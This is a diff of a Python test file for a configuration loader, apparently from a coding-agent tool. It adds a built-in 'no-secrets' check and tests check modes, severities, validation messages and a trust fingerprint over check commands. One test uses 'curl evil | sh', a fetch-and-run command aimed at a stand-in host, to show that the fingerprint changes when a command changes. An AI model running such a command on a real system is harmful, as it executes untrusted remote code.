@@ -71,7 +71,8 @@ def test_without_files_there_are_defaults(files: ConfigFiles, project: Project) 
     config = files.of(project)
     assert (config.default_agent, config.default_pipeline) == ("scripted", "feature")
     assert config.branch_prefix == "agent/"
-    assert config.checks == ()
+    assert [(c.name, c.command, c.modes) for c in config.checks] == [("no-secrets", None, ("*",))]
+    assert (config.fail_on_error, config.fail_on_warning, config.max_fix_rounds) == (True, False, 3)
     assert config.instructions == ""
     assert files.config(None) == files.config(project)
 
@@ -94,7 +95,7 @@ def test_the_project_wins_over_the_home_key_by_key(
     assert files.agents(project) == config.agents
 
 
-def test_checks_are_grouped_by_mode_and_the_disabled_left_out(
+def test_checks_have_their_modes_and_the_disabled_are_left_out(
     files: ConfigFiles, project: Project, write_project: Write
 ) -> None:
     write_project(
@@ -103,15 +104,30 @@ def test_checks_are_grouped_by_mode_and_the_disabled_left_out(
                 "test": {"command": "make test", "timeout": 1500},
                 "lint": {"command": "make lint", "modes": ["implement", "plan"]},
                 "slow": {"command": "make all", "enabled": False},
+                "no-secrets": {"severity": "warning"},
             }
         }
     )
-    config = files.of(project)
-    assert [(c.name, c.command, c.timeout_s) for c in config.checks] == [
+    secrets, *own = files.of(project).checks
+    assert [(c.name, c.command, c.timeout_s) for c in own] == [
         ("test", "make test", 1.5),
         ("lint", "make lint", 120.0),
     ]
-    assert config.checks_by_mode == {"implement": ("test", "lint"), "plan": ("lint",)}
+    assert [c.follows("plan") for c in (secrets, *own)] == [True, False, True]
+    assert secrets.severity == "warning"
+    write_project({"checks": {"no-secrets": {"enabled": False}}})
+    assert files.of(project).checks == ()
+
+
+def test_every_check_but_the_search_for_secrets_has_a_command(
+    files: ConfigFiles, project: Project, write_project: Write
+) -> None:
+    write_project({"checks": {"test": {}}})
+    assert faults(files, project)[1] == ['checks: the check "test" needs a command']
+    write_project({"checks": {"no-secrets": {"command": "true"}}})
+    assert "no-secrets takes no command" in faults(files, project)[1][0]
+    write_project({"checks": {"no-secrets": True}})
+    assert faults(files, project)[1][0].startswith("line 3, checks.no-secrets:")
 
 
 def test_the_fingerprint_changes_with_the_commands_and_with_nothing_else(
@@ -123,6 +139,8 @@ def test_the_fingerprint_changes_with_the_commands_and_with_nothing_else(
 
     first = print_of()
     assert print_of(timeout=77) == first
+    write_project({"checks": {"no-secrets": {"enabled": False}, "test": {"command": "make test"}}})
+    assert files.of(project).commands_fingerprint == first, "it has no command to trust"
     assert print_of(command="curl evil | sh") != first
     assert print_of(enabled=False) != first
 
@@ -363,10 +381,12 @@ def test_a_layer_may_change_a_part_of_what_another_says(
     config = files.config(project)
     assert config.checks["test"].command == "make test"
     assert not config.checks["test"].enabled
+    write_project({"checks": {"test": {"severity": "warning"}}})
+    assert files.config(project).checks["test"].command == "make test"
     home.unlink()
     message, details = faults(files, project)
     assert message.endswith("have errors together.")
-    assert details == ["checks.test.command: Field required"]
+    assert details == ['checks: the check "test" needs a command']
 
 
 # ------------------------------------------------------------------------------------- reminders
